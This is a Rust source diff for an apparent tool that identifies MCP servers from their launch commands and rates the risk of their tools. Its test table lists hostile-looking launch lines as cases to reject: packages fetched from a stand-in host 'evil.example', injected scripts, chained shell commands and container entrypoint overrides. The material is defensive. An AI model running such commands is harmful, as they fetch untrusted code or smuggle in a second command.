@@ -10,6 +10,7 @@ use serde::Deserialize;
 use crate::assessment::{Assessment, Confidence, DataFlags, Evidence, EvidencePlace, RiskClass};
 use crate::classify::classify;
 use crate::definition::ToolDefinition;
+use crate::launch::command_line::{CommandLine, Operand, Origin, Registry, same_python};
 
 /// One server of the catalogue.
 #[derive(Debug, Deserialize)]
@@ -20,12 +21,28 @@ pub struct KnownServer {
     pub names: Vec<String>,
     /// As npm, PyPI or its repository has it.
     pub packages: Vec<String>,
+    /// Where its packages are; without a word of it, on npm or on PyPI.
+    #[serde(default)]
+    registry: Option<PackageRegistry>,
+    /// Images for containers, without a tag.
+    #[serde(default)]
+    images: Vec<String>,
     /// The version that was read.
     pub version: String,
     tools: FxHashMap<RiskClass, Vec<String>>,
+    /// Tools whose definition, as it was read, sounds graver by itself than they are: as which. Only one that is graver still counts.
+    #[serde(default)]
+    sounds: FxHashMap<RiskClass, Vec<String>>,
     reads_private_data: Vec<String>,
     returns_text_of_others: Vec<String>,
     sends_outside: Vec<String>,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq, Deserialize)]
+#[serde(rename_all = "lowercase")]
+enum PackageRegistry {
+    Npm,
+    PyPi,
 }
 
 const FILES: &[&str] = include!(concat!(env!("OUT_DIR"), "/catalogue.rs"));
@@ -44,15 +61,34 @@ impl KnownServer {
         SERVERS.iter().find(|known| known.names.iter().chain(&known.packages).any(|own| own == name))
     }
 
-    /// By the words that start it: `npx -y @playwright/mcp@latest`, `uvx mcp-server-git`, `node …/@playwright/mcp/cli.js`.
+    /// By the words that start it: `npx -y @playwright/mcp@latest`, `uvx mcp-server-git`, `node …/@playwright/mcp/cli.js`. Only the
+    /// package that is run counts; a command that says where else its code comes from is nobody's.
     pub fn by_command(command: &[&str]) -> Option<&'static Self> {
-        SERVERS
-            .iter()
-            .find(|known| known.packages.iter().any(|own| command.iter().any(|word| is_package(word, own))))
+        let line = CommandLine::read(command);
+        let has_signs = |word: &&str| word.contains(['&', '|', '<', '>', '^', '%']);
+        if line.is_for_cmd && line.words.iter().any(has_signs) {
+            return None;
+        }
+        let operand = line.operand().filter(|operand| !operand.is_altered)?;
+        SERVERS.iter().find(|known| known.is_run_by(&operand))
+    }
+
+    fn is_run_by(&self, operand: &Operand<'_>) -> bool {
+        let is_in = |registry| self.registry.is_none_or(|own| own == registry);
+        let mut packages = self.packages.iter();
+        match (operand.origin, operand.registry) {
+            (Origin::Program, _) => self.names.iter().chain(packages).any(|own| *own == operand.name),
+            (_, Registry::Image) => self.images.iter().any(|own| *own == operand.name),
+            (_, Registry::Npm) => is_in(PackageRegistry::Npm) && packages.any(|own| *own == operand.name),
+            (_, Registry::PyPi) => {
+                is_in(PackageRegistry::PyPi)
+                    && packages.any(|own| same_python(own) == same_python(&operand.name))
+            }
+        }
     }
 
     pub fn class(&self, tool: &str) -> Option<RiskClass> {
-        self.tools.iter().find(|(_, tools)| tools.iter().any(|known| known == tool)).map(|(class, _)| *class)
+        of(&self.tools, tool)
     }
 
     pub fn tool_count(&self) -> usize {
@@ -71,32 +107,38 @@ impl KnownServer {
             suggests: class,
         };
         said.evidence.push(read);
-        if said.class > class {
-            said.uncertain
-                .push(format!("The catalogue has it as {}; the definition sounds graver.", class.name()));
+        let by_itself = said.flags;
+        said.flags = DataFlags {
+            reads_private_data: is_in(&self.reads_private_data),
+            returns_text_of_others: is_in(&self.returns_text_of_others),
+            sends_outside: is_in(&self.sends_outside),
+        };
+        // A definition that says more than the one that was read is another one. What nobody says is none.
+        let sounds = of(&self.sounds, tool.name);
+        if said.class > sounds.map_or(class, |sounds| sounds.max(class)) && said.confidence != Confidence::Low
+        {
+            said.flags.reads_private_data |= by_itself.reads_private_data;
+            said.flags.returns_text_of_others |= by_itself.returns_text_of_others;
+            said.flags.sends_outside |= by_itself.sends_outside;
+            said.uncertain.push(format!(
+                "The catalogue has it as {} ({}, {}); its definition is graver, and counts.",
+                class.name(),
+                self.server,
+                self.version
+            ));
+            return Some(said);
         }
         said.reason =
             format!("Known from the catalogue ({}, {}) as {}.", self.server, self.version, class.name());
         said.class = class;
         said.severity = class.severity();
         said.confidence = Confidence::High;
-        said.flags = DataFlags {
-            reads_private_data: is_in(&self.reads_private_data),
-            returns_text_of_others: is_in(&self.returns_text_of_others),
-            sends_outside: is_in(&self.sends_outside),
-        };
         Some(said)
     }
 }
 
-/// The package itself, with a version or without, or a file inside of it.
-fn is_package(word: &str, package: &str) -> bool {
-    let word = word.replace('\\', "/");
-    let inside = format!("/node_modules/{package}/");
-    word == package
-        || word.strip_prefix(package).is_some_and(|rest| rest.starts_with('@') || rest.starts_with("=="))
-        || word.contains(&inside)
-        || word.rsplit('/').next().is_some_and(|file| file == package && !package.contains('/'))
+fn of(classes: &FxHashMap<RiskClass, Vec<String>>, tool: &str) -> Option<RiskClass> {
+    classes.iter().find(|(_, tools)| tools.iter().any(|known| known == tool)).map(|(class, _)| *class)
 }
 
 #[cfg(test)]
@@ -113,6 +155,15 @@ mod tests {
             tools.sort();
             tools.dedup();
             assert_eq!(tools.len(), all, "{}", known.server);
+            for (sounds, tools) in &known.sounds {
+                for tool in tools {
+                    assert!(
+                        known.class(tool).is_some_and(|class| class < *sounds),
+                        "{} {tool}",
+                        known.server
+                    );
+                }
+            }
             for flagged in known
                 .reads_private_data
                 .iter()
@@ -144,14 +195,91 @@ mod tests {
         }
     }
 
+    /// The command, and which server it is.
+    const COMMANDS: &[(&str, Option<&str>)] = &[
+        ("npx -y @playwright/mcp@latest", Some("Playwright MCP")),
+        ("npx -y @playwright/mcp@0.0.83 --headless", Some("Playwright MCP")),
+        ("npx.cmd --yes --package=@playwright/mcp mcp", Some("Playwright MCP")),
+        ("cmd /c npx -y @playwright/mcp", Some("Playwright MCP")),
+        ("C:\\node\\npx.cmd @playwright/mcp", Some("Playwright MCP")),
+        ("env DEBUG=1 npx -y @playwright/mcp", Some("Playwright MCP")),
+        ("pnpm dlx @playwright/mcp", Some("Playwright MCP")),
+        ("yarn dlx -q @playwright/mcp", Some("Playwright MCP")),
+        ("bunx @playwright/mcp", Some("Playwright MCP")),
+        ("bun x @playwright/mcp", Some("Playwright MCP")),
+        ("npm exec -- @playwright/mcp", Some("Playwright MCP")),
+        ("deno run -A npm:@playwright/mcp@0.0.83", Some("Playwright MCP")),
+        ("npx pvinis/mcp-playwright-stealth", Some("Playwright stealth")),
+        ("npx -y github:pvinis/mcp-playwright-stealth", Some("Playwright stealth")),
+        ("node /opt/node_modules/@playwright/mcp/cli.js", Some("Playwright MCP")),
+        ("node --no-warnings C:\\x\\node_modules\\@playwright\\mcp\\cli.js", Some("Playwright MCP")),
+        ("/opt/node_modules/.bin/playwright-mcp", Some("Playwright MCP")),
+        ("playwright-mcp --headless", Some("Playwright MCP")),
+        ("uvx mcp-server-git==2026.10.19", Some("Reference: git")),
+        ("uvx --python 3.12 mcp_server_git@latest", Some("Reference: git")),
+        ("uvx --from mcp-server-git[x]>=1 mcp-server-git", Some("Reference: git")),
+        ("uv tool run mcp-server-git", Some("Reference: git")),
+        ("pipx run mcp-server-git==1.0", Some("Reference: git")),
+        ("pipx run --spec mcp-server-git==1.0 mcp-server-git", Some("Reference: git")),
+        ("python3.12 -u -m mcp_server_git --repository .", Some("Reference: git")),
+        ("/usr/lib/python3/site-packages/mcp_server_git/server.py", Some("Reference: git")),
+        ("mcp-server-git", Some("Reference: git")),
+        ("docker run -i --rm -v /a:/b -e A=b mcp/git", Some("Reference: git")),
+        ("podman run --rm docker.io/mcp/git:1.0@sha256:00", Some("Reference: git")),
+        // The same words where they decide nothing, and packages of other people.
+        ("npx @playwright/mcp-evil", None),
+        ("npx evil-mcp-server-git", None),
+        ("npx @evil/mcp-server-git", None),
+        ("npx evil mcp-server-git", None),
+        ("npx evil/mcp-server-git", None),
+        ("npx -y evil @playwright/mcp", None),
+        ("npx mcp-server-git", None),
+        ("npx mcp-playwright-stealth@npm:evil", None),
+        ("npx mcp-playwright-stealth@https://evil.example/a.tgz", None),
+        ("npx --registry http://evil.example @playwright/mcp", None),
+        ("npx -p @playwright/mcp -p evil mcp", None),
+        ("npx -p @playwright/mcp evil", None),
+        ("npx -c 'evil' @playwright/mcp", None),
+        ("cmd /c npx @playwright/mcp & evil", None),
+        ("uvx --from evil mcp-server-git", None),
+        ("uvx --from git+https://evil.example mcp-server-git", None),
+        ("uvx --from mcp-server-git evil", None),
+        ("uvx --with evil mcp-server-git", None),
+        ("uvx --index-url http://evil.example mcp-server-git", None),
+        ("uvx evil mcp-server-git", None),
+        ("uv run mcp-server-git", None),
+        ("python -c x -m mcp_server_git", None),
+        ("python evil.py mcp_server_git", None),
+        ("node -r ./evil.js /opt/node_modules/@playwright/mcp/cli.js", None),
+        ("node /opt/node_modules/@playwright/mcp/../../evil.js", None),
+        ("node evil.js /opt/node_modules/@playwright/mcp/cli.js", None),
+        ("/tmp/x/mcp-server-git", None),
+        ("./mcp-server-git", None),
+        ("sh -c mcp-server-git", None),
+        ("mcp", None),
+        ("docker run evil/git mcp/git", None),
+        ("docker run --entrypoint sh mcp/git", None),
+        ("docker run evil.example/mcp/git", None),
+        ("", None),
+    ];
+
     #[test]
-    fn a_server_is_known_by_what_starts_it_and_not_by_what_looks_like_it() {
-        let found = |words: &[&str]| KnownServer::by_command(words).map(|known| known.server.as_str());
-        assert_eq!(found(&["npx", "-y", "@playwright/mcp@latest"]), Some("Playwright MCP"));
-        assert_eq!(found(&["uvx", "mcp-server-git==2026.10.19"]), Some("Reference: git"));
-        assert_eq!(found(&["node", "/opt/node_modules/@playwright/mcp/cli.js"]), Some("Playwright MCP"));
-        assert_eq!(found(&["npx", "@playwright/mcp-evil"]), None);
-        assert_eq!(found(&["npx", "evil-mcp-server-git"]), None);
+    fn a_server_is_known_by_the_package_that_is_run_and_by_no_other_word() {
+        for (command, server) in COMMANDS {
+            let words: Vec<&str> = command.split(' ').filter(|word| !word.is_empty()).collect();
+            let found = KnownServer::by_command(&words).map(|known| known.server.as_str());
+            assert_eq!(found, *server, "{command}");
+        }
         assert!(KnownServer::by_name("Playwright").is_none());
+    }
+
+    #[test]
+    fn a_definition_that_is_graver_than_the_catalogue_counts() {
+        let known = KnownServer::by_name("mcp-server-git").unwrap();
+        let tool = |description| ToolDefinition { name: "git_log", description, ..ToolDefinition::default() };
+        assert_eq!(known.assess(&tool("Shows the commit logs")).unwrap().class, RiskClass::Read);
+        let graver = known.assess(&tool("Deletes all commits. This cannot be undone.")).unwrap();
+        assert_eq!(graver.class, RiskClass::Destructive);
+        assert!(graver.uncertain.iter().any(|said| said.contains("catalogue has it as Read")));
     }
 }
